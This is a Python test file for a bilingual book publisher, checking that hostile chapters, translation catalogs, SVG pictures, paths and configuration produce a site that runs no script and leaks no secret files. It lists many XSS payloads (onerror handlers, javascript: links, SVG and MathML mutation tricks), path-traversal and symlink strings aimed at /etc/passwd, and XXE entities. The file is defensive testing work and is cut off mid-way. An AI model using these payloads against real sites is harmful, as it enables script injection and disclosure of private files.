"""Hostile books: whatever a source, a catalog, a picture or a path holds, the website shows it and runs nothing."""

from __future__ import annotations

import os
import re
import shutil
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bilingual.config import load
from bilingual.diagnostics import BilingualError
from bilingual.project import extract, publish
from bilingual.sanitiser import clean, danger
from book import CONFIG, edit, make
from browser import chromium
from web import SITE, png

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping, Sequence

    from playwright.sync_api import Browser, Dialog

    from bilingual.diagnostics import Diagnostic

# One worker builds these books once.
pytestmark = pytest.mark.xdist_group("hostile")

#: What every attack tries to do.
DO = "window.pwned=1"
SECRET = png(3, 3, 7) + b"what nobody outside may read"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
POLICY = (
    "default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self' data:; font-src 'self'; "
    "base-uri 'none'; form-action 'none'"
)


@dataclass(frozen=True)
class Attack:
    """A book that means harm.

    Attributes:
        name: What it tries.
        source: Its chapter `a.md`.
        target: The translation of every entry of it.
        files: Further files, paths below the project's folder.
        links: Symbolic links: where each is, and what it leads to.
        config: What the configuration says besides its languages.
        shows: What readers still see.
        hides: What stands nowhere on the pages, not even as text.
        says: Codes of diagnostics that tell the author.
    """

    name: str
    source: str = "文字。\n"
    target: str = ""
    files: Mapping[str, str | bytes] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    config: str = ""
    shows: tuple[str, ...] = ()
    hides: tuple[str, ...] = ()
    says: tuple[str, ...] = ()


def _link(name: str, address: str) -> Attack:
    return Attack(f"link: {name}", f"见[这里]({address})。\n", shows=("这里",))


def _raw(name: str, html: str, *shows: str, says: tuple[str, ...] = ("html-removed",)) -> Attack:
    return Attack(name, f"文字\n\n{html}\n\n后文。\n", shows=("文字", "后文。", *shows), says=says)


def _path(name: str, path: str) -> Attack:
    return Attack(
        f"path: {name}",
        f'![图甲]({path})\n\n见[文件乙]({path})。\n\n<img src="{path}" alt="图丙">\n',
        shows=("图甲", "文件乙", "图丙"),
        says=("picture-missing", "link-unpublished"),
    )


def _picture(name: str, inner: str, whole: str = SVG) -> Attack:
    return Attack(
        f"SVG: {name}",
        "![图甲](p.svg)\n\n见[文件乙](p.svg)。\n",
        files={"content/zh/p.svg": whole.replace("{}", inner)},
        shows=("图甲", "文件乙"),
        says=("picture-missing", "link-unpublished"),
    )


SOURCES = (
    _raw("script in a block", f"<script>{DO}</script>"),
    Attack("script in a line", f"前文<script>{DO}</script>后文。\n", shows=("前文", "后文。"), says=("html-removed",)),
    Attack("script never closed", f"前文。\n\n<script>{DO}\n", shows=("前文。",), says=("html-removed",)),
    Attack("title takes the line away", "前文<title>中间<b>粗", shows=("前文", "中间", "粗"), says=("html-removed",)),
    Attack("textarea in a line", f"前文<textarea>中间</textarea><img src=x onerror={DO}>后文", shows=("中间", "后文")),
    Attack(
        "plaintext in a line",
        f"前文<plaintext>中间<script>{DO}</script>",
        shows=("前文", "中间"),
        says=("html-removed",),
    ),
    _raw("broken script", f"<scr<script>ipt>{DO}</scr</script>ipt>"),
    _raw("script in capitals", f"<ScRiPt\n>{DO}</sCrIpT\n>"),
    _raw(
        "picture with a handler", f'<img src=x onerror="{DO}" alt="图">', "图", says=("html-removed", "picture-missing")
    ),
    _raw("slashes for blanks", f"<img/src=x/onerror={DO}//alt=图>", says=()),
    _raw(
        "picture with srcset", '<img src="x" srcset="javascript:alert(1) 2x" alt="图">', "图", says=("picture-missing",)
    ),
    _raw("SVG with a handler", f"<svg onload={DO}><text>图</text></svg>"),
    _raw("SVG in a link", '<svg><a xlink:href="javascript:window.pwned=1"><text x="20" y="20">字</text></a></svg>'),
    _raw("SVG with animated address", f'<svg><a><set attributeName=href to="javascript:{DO}"></set>字</a></svg>'),
    _raw("MathML with an address", f'<math href="javascript:{DO}"><mi>x</mi></math>', "x", says=()),
    _raw(
        "MathML that mutates",
        f"<math><mtext><table><mglyph><style><img src=x onerror={DO}></style></mglyph></table></mtext></math>",
    ),
    _raw(
        "annotation with HTML",
        f'<math><annotation-xml encoding="text/html"><img src=x onerror={DO}></annotation-xml></math>',
    ),
    _raw("noscript that mutates", f'<noscript><p title="</noscript><img src=x onerror={DO}>">字</p></noscript>'),
    _raw("template", f"<template><script>{DO}</script></template>"),
    _raw("select that mutates", f"<select><style></select><img src=x onerror={DO}></style></select>"),
    _raw("comment that closes at once", f"<!--><script>{DO}</script>-->", says=("html-removed",)),
    _raw("comment with an exclamation mark", f"<!-- --!><img src=x onerror={DO}> -->", says=()),
    _raw("CDATA", f"<![CDATA[<img src=x onerror={DO}>]]>", says=()),
    _raw("processing instruction", f"<?xml-stylesheet ><img src=x onerror={DO}>?>", says=()),
    _raw("base", '<base href="https://evil.example/">'),
    _raw("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    _raw("link to a style sheet", '<link rel="stylesheet" href="https://evil.example/a.css">'),
    _raw("frame", f'<iframe srcdoc="<script>parent.{DO}</script>" src="javascript:{DO}"></iframe>'),
    _raw("object", f'<object data="javascript:{DO}">字</object><embed src="javascript:{DO}">', "字"),
    _raw("form", f'<form action="javascript:{DO}"><button formaction="javascript:{DO}">按</button></form>', "按"),
    _raw("style", "<style>@import 'https://evil.example/a.css'; body { display: none }</style>"),
    _raw("style attribute", '<p style="position:fixed;background:url(https://evil.example/)">字</p>', "字", says=()),
    _raw("details with a handler", f"<details open ontoggle={DO}><summary>题</summary>字</details>", "题", "字"),
    _raw(
        "video and audio",
        f'<video poster="javascript:{DO}"><source onerror="{DO}">字</video><audio src=x onerror={DO}></audio>',
        "字",
    ),
    _raw("focus", f'<p tabindex=0 autofocus onfocus="{DO}" contenteditable>字</p>', "字"),
    _raw("deeply nested tags", "<div><b>" * 3000 + "字" + "<ul><li>" * 3000, "字", says=()),
    _raw("unclosed tags", "<div><table><tr><td><b><i><a href='https://x.example/'>字", "字", says=()),
    _raw("closing tags", "</div></article></main></body></html></p>字</span>", "字", says=()),
    _raw("attribute without an end", f'<p title="字>文 onclick={DO}', says=()),
    _raw(
        "the renderer's own marks",
        f'<p title="&#xFDD1;0&#xFDD2;">\ufdd0\ufdd10\ufdd2&#64976;字</p><img src=x onerror={DO}>',
        "字",
    ),
    Attack(
        "the renderer's own marks in a line",
        f'<b title="&#xFDD1;0&#xFDD2;">字</b> [词](x/onmouseover={DO}//) \ufdd10\ufdd2',
        shows=("字", "词"),
    ),
    Attack("control characters", "前\x01中\x0c\x1b\x7f\x85文\ufffe后\n", shows=("前", "后")),
    _link("script", f"javascript:{DO}"),
    _link("script in odd letters", f"<JaVa&Tab;ScRiPt&colon;{DO}>"),
    _link("script as references", "&#106;&#97;vascript&#58;window.pwned=1"),
    _link("control character before it", f"<&#1;javascript:{DO}>"),
    _link("vbscript", "vbscript:msgbox(1)"),
    _link("page as data", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="),
    _link("file", "file:///etc/passwd"),
    _link("title that breaks out", f"""https://x.example/ '" onmouseover="{DO}'"""),
    _link("address that breaks out", f'<https://x.example/" onmouseover="{DO}>'),
    Attack("automatic link", f"见<javascript:{DO}>和<data:text/html,x>。\n", shows=("见", "和")),
    Attack(
        "link definitions",
        f'见[甲]和[乙][b]。\n\n[甲]: javascript:{DO} "题"\n[b]: <java\tscript:{DO}>\n',
        shows=("甲", "乙"),
    ),
    Attack(
        "raw links",
        f'见<a href="java&#10;script:{DO}">甲</a><a href=" &#14; javascript:{DO}">乙</a>'
        f'<a href="\tJAVASCRIPT&colon;{DO}" ping="https://evil.example/" target=x>丙</a>。\n',
        shows=("甲", "乙", "丙"),
        says=("link-unpublished",),
    ),
    Attack(
        "links in links",
        "[外<a href='https://x.example/'>里</a>![图](https://x.example/a.png)](https://y.example/)",
        shows=("外", "里"),
    ),
    Attack(
        "picture's text breaks out",
        f'![图"><img src=x onerror={DO}>](f.png \'题" onload="{DO}\')\n',
        files={"content/zh/f.png": png(2, 2, 1)},
    ),
    Attack(
        "pictures as data",
        f'![甲](data:image/svg+xml,<svg/onload={DO}>) <img src="data:text/html,x" alt="乙">\n',
        shows=("甲", "乙"),
    ),
    Attack(
        "anchor breaks out",
        f'## 题 {{#x" onclick="{DO}}}\n\n<p id=\'y"><script>{DO}</script>\'>字</p>\n\n:label:`z"onclick="{DO}`\n',
        shows=("题", "字"),
    ),
    Attack(
        "anchors of the page itself",
        '# note 1 {#search}\n\n<p id="r-aaaaaaaaaa">字</p><p id="view-auto">词</p>文[^1]\n\n[^1]: 注\n',
        shows=("字",),
    ),
    Attack(
        "footnote breaks out",
        f'文[^"onclick={DO}]字\n\n[^"onclick={DO}]: 注释 <script>{DO}</script>\n',
        shows=("注释",),
    ),
    Attack(
        "language of code breaks out",
        f'``` python"onmouseover="{DO}\n</code></pre><script>{DO}</script>\n```\n',
        shows=(f"<script>{DO}</script>",),
    ),
    Attack(
        "code",
        f"`</code><script>{DO}</script>`\n\n    </code></pre><img src=x onerror={DO}>\n",
        shows=(f"<script>{DO}</script>",),
    ),
    Attack(
        "container breaks out",
        f'::: x"onclick="{DO}" <b onclick={DO}>题</b>\n\n字\n\n:::\n',
        config="[markdown.extensions]\ncontainers = true\n",
        shows=("字",),
    ),
    Attack("callout", f"> [!NOTE] <img src=x onerror={DO}>题\n> 字\n", shows=("字",)),
    Attack("role breaks out", f'{{x"onclick={DO}}}`</code><img src=x onerror={DO}>` 和 {{ref}}`<a" onclick="{DO}>`\n'),
    Attack(
        "table",
        f"| 甲<script>{DO}</script> | 乙 |\n|---|:-:|\n| <img src=x onerror={DO} alt=丙> | </td></table><b>丁 |\n",
        shows=("甲", "丙", "丁"),
    ),
    Attack(
        "formula",
        f"$\\href{{javascript:{DO}}}{{x}}$ $\\text{{<img src=x onerror={DO}>}}$\n\n"
        f'$$\n\\class{{a"onclick="{DO}}}{{y}} \\htmlData{{on=1}}{{z}}\n$$\n',
    ),
    Attack(
        "formula's source",
        f"$\\unknown</annotation><script>{DO}</script>$ $a<b \\text{{]]></math>}}$\n",
        shows=(f"<script>{DO}</script>",),
    ),
    Attack(
        "diagram",
        f'```mermaid\ngraph LR\n  A["<img src=x onerror={DO}>"] --> B\n'
        f'  click A href "javascript:{DO}" "题"\n  click B call {DO}\n```\n',
    ),
    Attack(
        "diagram's style",
        "```mermaid\ngraph LR\n  A --> B\n  style A fill:url(https://evil.example/x)\n"
        f"  classDef x fill:#fff;}}</style><script>{DO}</script>\n```\n",
    ),
    Attack(
        "front matter",
        f'---\ntitle: "</title><script>{DO}</script>题"\ndescription: \'"><img src=x onerror={DO}>说明\'\n---\n\n字\n',
        shows=("题", "字"),
    ),
    Attack("heading", f"# </title></h1><script>{DO}</script>题\n\n字\n", shows=("题", "字")),
    Attack(
        "bare text",
        f"<img src=x onerror={DO} &lt;script&gt;{DO}&lt;/script&gt; ]]> --> \u2028\u2029字\n",
        shows=("字", f"<script>{DO}</script>"),
    ),
    Attack(
        "search",
        f"# {{{{7*7}}}} {{% raw %}}\n\n字</script><script>{DO}</script>\u2028{{{{config}}}}\n",
        shows=("{{config}}",),
    ),
)

TARGETS = (
    Attack("PO: script", "文字。\n", f"Text<script>{DO}</script>.", shows=("Text",)),
    Attack(
        "PO: new tag",
        "文字。\n",
        "A <u>new</u> <details>tag</details>.",
        shows=("new", "tag"),
        hides=("<u>", "<details>"),
    ),
    Attack(
        "PO: new tag beside an old one",
        "<b>粗</b>。\n",
        f"<b onclick={DO}>Bold</b> <u>new</u> <img src=x onerror={DO}>.",
        shows=("Bold", "new"),
    ),
    Attack("PO: tag that stands in a comment", "文字<!-- <u> -->。\n", "<u>text</u>", hides=("<u>",)),
    Attack(
        "PO: tag that stands in a value", '<b title="<u>">粗</b>。\n', '<b title="<u>"><u>text</u></b>', hides=("<u>",)
    ),
    Attack(
        "PO: handler",
        '<a href="https://x.example/">词</a>。\n',
        f'<a href="https://x.example/" onclick="{DO}" style="x">word</a>.',
        shows=("word",),
    ),
    Attack(
        "PO: script's address",
        '<a href="https://x.example/">词</a>。\n',
        f'<a href="java&#9;script:{DO}">word</a>.',
        shows=("word",),
    ),
    Attack(
        "PO: link to a script",
        "见[词](https://x.example/)。\n",
        f"See [word](javascript:{DO}) and <javascript:{DO}>.",
        shows=("word",),
    ),
    Attack(
        "PO: link definition",
        "见[词]。\n\n[词]: https://x.example/\n",
        f"See [word][x].\n\n[x]: javascript:{DO}",
        shows=("word",),
    ),
    Attack("PO: block", "文字。\n", f"Text.\n\n<script>{DO}</script>\n"),
    Attack(
        "PO: attribute", '<img src="f.png" alt="图">\n', f'x" onerror="{DO}', files={"content/zh/f.png": png(2, 2, 1)}
    ),
    Attack("PO: attribute and tag", '<p title="题">字</p>\n', f'"><script>{DO}</script><img src=x onerror={DO}>'),
    Attack(
        "PO: picture's text", "![图](f.png)\n", f'![x" onerror="{DO}](f.png)', files={"content/zh/f.png": png(2, 2, 1)}
    ),
    Attack(
        "PO: picture's title",
        '![图](f.png "题")\n',
        f"![x](f.png '\" onload={DO}')",
        files={"content/zh/f.png": png(2, 2, 1)},
    ),
    Attack(
        "PO: the renderer's own marks",
        "文字<b>粗</b>。\n",
        f'\ufdd0\ufdd10\ufdd2 <b title="&#xFDD1;0&#xFDD2;">[x](y/onclick={DO}//)</b>\u2028',
        shows=("x",),
    ),
    Attack("PO: heading", "# 题\n", f"</title><script>{DO}</script> Title", shows=("Title",)),
    Attack("PO: front matter", "---\ntitle: 题\n---\n\n字\n", f"</title><script>{DO}</script> Title"),
    Attack("PO: table", "| 甲 |\n|---|\n| 乙 |\n", f"</td></table><script>{DO}</script>"),
    Attack("PO: comment in code", "```python\n# 注释\nx = 1\n```\n", f"</code></pre><script>{DO}</script>"),
    Attack("PO: diagram", "```mermaid\ngraph LR\n  A[甲] --> B[乙]\n```\n", f'x"]; click A href "javascript:{DO}'),
    Attack(
        "PO: text of an SVG",
        "![图](p.svg)\n",
        f"<script>{DO}</script>",
        files={"content/zh/p.svg": SVG.replace("{}", "<text>图</text>")},
    ),
    Attack(
        "PO: someone's picture",
        "![图](https://x.example/a.png)\n",
        "![a](https://evil.example/track.png)",
        shows=("a",),
    ),
    Attack("PO: file from outside", "文字。\n", "![a](../../secret.png) [b](../../../secret.txt)", shows=("a", "b")),
)

PICTURES = (
    _picture("script", f"<script>{DO}</script>"),
    _picture("script of another prefix", f'<s:script xmlns:s="http://www.w3.org/2000/svg">{DO}</s:script>'),
    _picture("handler", f'<rect width="9" height="9" onload="{DO}"/>'),
    _picture("address", f'<a href="javascript:{DO}"><text>字</text></a>'),
    _picture("address as references", f'<a xlink:href="&#106;ava&#9;script:{DO}"><text>字</text></a>'),
    _picture("animated address", f'<a><animate attributeName="href" values="x;javascript:{DO}"/><text>字</text></a>'),
    _picture(
        "page inside",
        f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{DO}"/></foreignObject>',
    ),
    _picture("picture from elsewhere", '<image href="https://evil.example/a.png" width="9" height="9"/>'),
    _picture("file from elsewhere", '<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    _picture("entity", "&x;", f'<!DOCTYPE svg [<!ENTITY x "<script>{DO}</script>">]>{SVG}'),
    _picture("file as an entity", "<text>&x;</text>", f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG}'),
    _picture("style sheet", "", f'<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>{SVG}'),
    _picture("HTML in its place", "", f"<html><body onload={DO}><script>{DO}</script>"),
)

PATHS = (
    _path("out of the content folder", "../../secret.png"),
    _path("out of the project", "../../../secret.png"),
    _path("far out", "../" * 20 + "etc/passwd"),
    _path("escaped", "%2e%2e/%2e%2e/secret.png"),
    _path("escaped twice", "%252e%252e/%252e%252e/secret.png"),
    _path("escaped slashes", "..%2f..%2fsecret.png"),
    _path("backslashes", "..\\\\..\\\\secret.png"),
    _path("from the root", "/etc/passwd"),
    _path("from the root and up", "/../../secret.png"),
    _path("there and back", "img/../../../secret.png"),
    _path("a query", "../../secret.png?x=.png#y"),
    replace(_path("an address of a file", "file:///etc/passwd"), says=("picture-missing",)),
    _path("a NUL", "../../secret.png%00.png"),
    _path("hidden", "../../.git/config"),
    _path("hidden in the content folder", ".hidden.png"),
    _path("hidden folder", ".git/secret.png"),
    _path("configuration", "../../bilingual.toml"),
    _path("catalog", "../../locale/en/LC_MESSAGES/a.po"),
    _path("build folder", "../../build/secret.png"),
    _path("capitals", "../../SECRET.PNG"),
    _path("a page", "page.html"),
    _path("a drive", "C:/secret.png"),
    replace(_path("link", "img/link.png"), links={"content/zh/img/link.png": "secret.png"}),
    replace(
        _path("link to a hidden file", "img/link.png"), links={"content/zh/img/link.png": "content/zh/.hidden.png"}
    ),
    replace(_path("linked folder", "out/secret.png"), links={"content/zh/out": "private"}),
    Attack(
        "path: picture of one's own that is a link",
        "![图甲](f.png)\n",
        files={"content/zh/f.png": png(2, 2, 1)},
        links={"content/zh/f.en.png": "secret.png"},
    ),
    Attack(
        "path: configuration in a book at the root",
        "见[文件](bilingual.toml)和[密](.env)和[链](link.txt)。\n",
        "See [one](bilingual.toml), [two](pyproject.toml), [three](link.txt), [four](build/secret.txt).",
        files={".env": SECRET, "pyproject.toml": SECRET, "build/secret.txt": SECRET},
        links={"link.txt": ".env"},
        config='paths.source = "{path}"\npaths.target = "{lang}/{path}"\n',
        shows=("文件", "one", "two", "three", "four"),
        says=("link-unpublished",),
    ),
    *(
        replace(_path(f"map, {name}", path), config='[assets]\nmap = { "https://x.example/" = "public/img" }\n', **more)
        for name, path, more in (
            ("up", "https://x.example/../../secret.png", {}),
            ("escaped", "https://x.example/%2e%2e/%2e%2e/secret.png", {}),
            ("backslashes", "https://x.example/..\\\\..\\\\secret.png", {}),
            ("hidden", "https://x.example/.hidden.png", {"files": {"public/img/.hidden.png": SECRET}}),
            ("link", "https://x.example/link.png", {"links": {"public/img/link.png": "secret.png"}}),
        )
    ),
)

BOOKS = (
    Attack(
        "configuration: texts",
        config=f"""
[book]
title = '</title><script>{DO}</script>书名'
subtitle = '"><img src=x onerror={DO}>'
description = '"><script>{DO}</script>'
authors = ['" onclick="{DO}', '<script>{DO}</script>']
translators = ['<img src=x onerror={DO}>']
licence = '<script>{DO}</script>CC'
licence-url = 'https://x.example/?a=1&b=%22'
date = '<script>{DO}</script>'
[[book.parts]]
title = '<script>{DO}</script>部分'
chapters = ["a.md"]
[render.html]
repository = 'https://x.example/a&b'
branch = '"><script>{DO}</script>'
footer = '<p onclick="{DO}">脚<script>{DO}</script><a href="javascript:{DO}">注</a><img src="javascript:x"></p>'
""",
        shows=("书名", "部分", "脚", "注"),
    ),
    Attack(
        "configuration: files",
        config='[render.html]\nlogo = "../secret.png"\nextra-css = ["../../secret.png", "/etc/passwd"]\n',
        says=("render-file",),
    ),
    Attack(
        "configuration: linked file",
        config='[render.html]\nlogo = "logo.png"\n',
        links={"logo.png": "../secret.png"},
        says=("render-file",),
    ),
    Attack(
        "configuration: logo with a script",
        files={"l.svg": SVG.replace("{}", f"<script>{DO}</script>")},
        config='[render.html]\nlogo = "l.svg"\n',
        says=("render-file",),
    ),
    Attack(
        "names of chapters",
        '见[甲](<b"><img src=x onerror=alert(1)>.md>)和[乙](javascript:alert(1).md)。\n',
        files={
            'content/zh/b"><img src=x onerror=alert(1)>.md': "# 乙\n",
            "content/zh/javascript:alert(1).md": "# 丙\n",
            "content/zh/'onclick='/#?%22 &amp;.md": "# 丁\n",
            "content/zh/_static/app.js.md": "# 戊\n",
        },
        shows=("乙", "丙", "丁"),
    ),
)
ATTACKS = (*SOURCES, *TARGETS, *PICTURES, *PATHS, *BOOKS)


@dataclass(frozen=True)
class Result:
    """What became of an attack."""

    attack: Attack
    site: Path
    diagnostics: Sequence[Diagnostic]


def attacked(root: Path, attack: Attack) -> Result:
    """Publish a hostile book in a folder, with secrets around it."""
    files: dict[str, str | bytes] = {
        "../secret.png": SECRET,
        "../secret.txt": SECRET,
        "secret.png": SECRET,
        "private/secret.png": SECRET,
        ".git/config": SECRET,
        "content/zh/.hidden.png": SECRET,
        "content/zh/.git/secret.png": SECRET,
        "content/zh/page.html": f"<script>{DO}</script>".encode() + SECRET,
        "build/secret.png": SECRET,
        "content/zh/img/ok.png": png(2, 2, 1),
        ("a.md" if "paths.source" in attack.config else "content/zh/a.md"): attack.source,
    }
    config = CONFIG + 'minimum = "draft"\n' + attack.config
    make(root, {**files, **attack.files}, config)
    for place, goal in attack.links.items():
        (root / place).parent.mkdir(parents=True, exist_ok=True)
        (root / place).symlink_to(os.path.relpath(root / goal, (root / place).parent))
    loaded = load(root / "bilingual.toml")
    extract(loaded, jobs=1)
    if attack.target:
        for path in (root / "locale").rglob("*.po"):
            edit(path, lambda entry: replace(entry, msgstr=attack.target))
    made = publish(loaded, ["html"], jobs=1)
    return Result(attack, root / SITE, made.diagnostics)


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[Attack], Result]]:
    """Publishes an attack, once for all tests."""
    found: dict[str, Result] = {}
    home = tmp_path_factory.mktemp("hostile")

    def result(attack: Attack) -> Result:
        if attack.name not in found:
            found[attack.name] = attacked(home / str(len(found)) / "book", attack)
        return found[attack.name]

    yield result
    shutil.rmtree(home, ignore_errors=True)


# --- the judge -------------------------------------------------------------------------------------------------

_VOID = frozenset("area base br col embed hr img input link meta source track wbr".split())
_MATHML = (
    "annotation math mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle "
    "msub msubsup msup mtable mtd mtext mtr munder munderover semantics"
)
#: What an article may consist of.
_TAGS = frozenset(
    f"{_MATHML} a abbr address article aside b bdi bdo blockquote br caption cite code col colgroup dd del details "
    "dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img input ins kbd li mark nav ol p pre "
    "q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var "
    "wbr".split()
)
_ATTRIBUTES = frozenset(
    "accent accentunder alt aria-label checked class colspan columnspan data-language data-line data-state datetime "
    "depth dir display displaystyle encoding fence form height href id lang largeop linethickness loading lspace "
    "mathbackground mathcolor mathsize mathvariant maxsize minsize movablelimits open reversed role rowspan rspace "
    "scope scriptlevel separator src start stretchy symmetric tabindex title type value voffset width".split()
)
_ADDRESSES = (
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "ping",
    "background",
    "cite",
)
_NEVER = frozenset(
    "applet audio base embed form frame frameset iframe image math:annotation-xml noscript object portal style "
    "svg:script textarea video".split()
)


class Page(HTMLParser):
    """Reads a page; complaints are what should not be there."""

    def __init__(self, path: Path, site: Path) -> None:
        super().__init__(convert_charrefs=True)
        self.path = path
        self.site = site
        self.complaints: list[str] = []
        self.stack: list[tuple[str, str]] = []
        self.ids: list[str] = []
        self.text: list[str] = []
        self.policy = ""
        self.cells: dict[str, dict[str, set[str]]] = {}
        self.row = ""
        self.feed(path.read_text(encoding="utf-8"))
        self.close()
        if self.stack:
            self.complain(f"never closed: {self.stack}")
        if len(set(self.ids)) < len(self.ids):
            self.complain(f"an id stands twice: {sorted(self.ids)}")

    def complain(self, what: str) -> None:
        self.complaints.append(f"{self.path.relative_to(self.site)}:{self.getpos()[0]}: {what}")

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        classes = said.get("class", "").split()
        article = any(each == "article" for each, _ in self.stack)
        if article:
            for name in (*({tag} - _TAGS), *(said.keys() - _ATTRIBUTES)):
                self.complain(f"{name} is not allowed: {self.get_starttag_text()}")
        self.judge(tag, said)
        if "id" in said:
            self.ids.append(said["id"])
        if "row" in classes and any("row" in each.split() for _, each in self.stack):
            self.complain(f"a row in a row: {self.stack}")
        if "row" in classes:
            self.row = said.get("id", "")
        side = next((each for each in ("src", "tgt") if any(each in names.split() for _, names in self.stack)), "")
        if side:
            self.cells.setdefault(self.row, {"src": set(), "tgt": set()})[side].add(tag)
        if tag == "a" and any(each == "a" for each, _ in self.stack):
            self.complain("a link in a link")
        if tag not in _VOID:
            self.stack.append((tag, said.get("class", "")))

    def judge(self, tag: str, said: Mapping[str, str]) -> None:
        """Complain about what acts."""
        if tag in _NEVER or (tag == "meta" and said.get("http-equiv", "").lower() == "refresh"):
            self.complain(f"<{tag}>")
        if tag == "script" and (not self.inside(said.get("src", "")) or "/_static/" not in f"/{said.get('src', '')}"):
            self.complain(f"a script: {said}")
        if tag in ("script", "link", "img") and not self.policy:
            self.complain("something stands before the policy")
        if tag == "meta" and said.get("http-equiv") == "Content-Security-Policy":
            self.policy = self.policy or said["content"]
        for name, value in said.items():
            if name.startswith("on") or name in ("style", "srcdoc", "target", "autofocus", "contenteditable"):
                self.complain(f"{name}={value}")
            if name in _ADDRESSES and not self.harmless(tag, name, value):
                self.complain(f"{name}={value}")

    def harmless(self, tag: str, name: str, value: str) -> bool:
        bare = re.sub(r"[\x00-\x20]", "", value).lower()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare)
        if scheme is None:
            return not bare.startswith(("//", "/", "\\")) and self.inside(value)
        if tag == "link" and value == "data:,":
            return True  # no icon, so that no browser asks for one
        if tag == "img":
            return re.match(r"data:image/(?:png|gif|jpeg|webp|avif);base64,", bare) is not None
        return name == "href" and tag in ("a", "link") and scheme.group(1) in ("http", "https", "mailto", "tel", "ftp")

    def inside(self, address: str) -> bool:
        """Return whether an address leads to a file of the site."""
        path = unquote(urlsplit(address).path)
        place = Path(os.path.normpath(self.path.parent / path)) if path else self.path
        return place.is_relative_to(self.site) and place.is_file()

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1][0] != tag:
            self.complain(f"</{tag}> closes {self.stack[-1:]}")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        if not any(each in ("head", "script") for each, _ in self.stack):
            self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.complain(f"a comment: {data}")


def pages(site: Path) -> list[Page]:
    return [Page(path, site) for path in sorted(site.rglob("*.html"))]


def needs_posix(attack: Attack) -> None:
    if os.name == "nt" and (attack.links or attack.name.startswith("names")):
        pytest.skip("Windows has no such names or links")


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_nothing_acts_and_nothing_is_lost(results: Callable[[Attack], Result], attack: Attack) -> None:
    needs_posix(attack)
    result = results(attack)
    found = pages(result.site)
    assert len(found) >= 7  # three contents, three views of the chapter, and the page for what is not there
    assert [each for page in found for each in page.complaints] == []
    assert {page.policy for page in found} == {POLICY}
    texts = "".join("".join(page.text) for page in found)
    for text in attack.shows:
        assert text in texts
    codes = {each.code for each in result.diagnostics}
    assert set(attack.says) <= codes
    for path in result.site.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert SECRET not in data
            assert b"root:" not in data or path.suffix not in (".png", "")
            if path.suffix == ".svg":
                assert re.search(rb"<script|\son\w+=|javascript:|https?://evil", data) is None
            for text in attack.hides:
                assert text.encode() not in data


def test_the_judge_sees_what_acts(tmp_path: Path) -> None:
    page = tmp_path / "a.html"
    bad = (
        "<script>x</script>",
        "<script src=https://evil.example/a.js></script>",
        "<p onclick=x>",
        "<a href=' java\tscript:x'>",
        "<a href='../../etc/passwd'>",
        "<img src='https://evil.example/a.png'>",
        "<div><p></div>",
        "<article><svg></svg></article>",
        "<a href='#x'><a href='#y'></a></a>",
    )
    for each in bad:
        page.write_text(f"<meta http-equiv=Content-Security-Policy content=x>{each}", encoding="utf-8")
        assert Page(page, tmp_path).complaints, each


@pytest.mark.parametrize(
    "line",
    [
        '[book]\nlicence-url = "javascript:alert(1)"',
        '[render.html]\nrepository = "javascript:alert(1)"',
        '[render.html]\nsite-url = "https://x.example/\\"onclick=\\"x"',
        '[render.html]\naccent = "red; } body { background: url(https://evil.example/)"',
        '[render.html]\ncolumns = "1:1; } body { display: none"',
        '[assets]\nmap = { "https://x.example/" = "../private" }',
        'build = "../../out"',
    ],
)
def test_a_hostile_configuration_is_refused(tmp_path: Path, line: str) -> None:
    make(tmp_path, {"content/zh/a.md": "文字。\n"}, CONFIG.replace("[", "[", 1) + line + "\n")
    with pytest.raises(BilingualError):
        publish(load(tmp_path / "bilingual.toml"), ["html"], jobs=1)
    assert not (tmp_path / "build").exists()


def test_a_link_in_the_build_folder_leads_nothing_out(tmp_path: Path) -> None:
    root, outside = tmp_path / "book", tmp_path / "outside"
    outside.mkdir()
    make(root, {"content/zh/a.md": "![图](img/f.png)\n", "content/zh/img/f.png": png(2, 2, 1)})
    (root / SITE).mkdir(parents=True)
    (root / SITE / "_assets").symlink_to(outside)
    made = publish(load(root / "bilingual.toml"), ["html"], jobs=1)
    assert not list(outside.iterdir())
    assert "file-outside" in {each.code for each in made.diagnostics}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


#: What Chromium makes of a page: handlers, addresses that run, and rows that ended up where they do not belong.
_LOOK = """() => {
  const found = [];
  for (const each of document.querySelectorAll('*')) {
    for (const {name, value} of each.attributes) {
      const acts = name.startsWith('on') || name === 'style' && each.closest('article');
      if (acts) found.push(`${each.tagName} ${name}=${value}`);
      if (['href', 'src', 'xlink:href', 'action', 'formaction'].includes(name)) {
        const scheme = new URL(value, location.href).protocol;
        const icon = each.rel === 'icon' && value === 'data:,';
